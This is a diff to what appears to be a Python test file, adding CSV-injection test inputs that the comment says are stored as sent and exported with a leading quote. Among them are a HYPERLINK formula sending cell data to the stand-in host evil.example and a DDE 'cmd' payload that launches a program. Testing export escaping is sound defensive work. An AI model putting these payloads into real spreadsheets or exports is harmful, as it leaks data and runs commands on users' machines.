@@ -19,6 +19,19 @@ TWO_MIB = 2 * 1024 * 1024
 DEEP = 10_000
 
 
+# Valid text that a spreadsheet would run as a formula or command (OWASP, "CSV Injection"):
+# stored as sent, exported with a leading quote. Leading tab/CR are stripped as whitespace
+# on input; the export helper's unit test covers them.
+CSV_FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "=1+1",
+)
+
+
 @dataclass(frozen=True)
 class Case:
     name: str
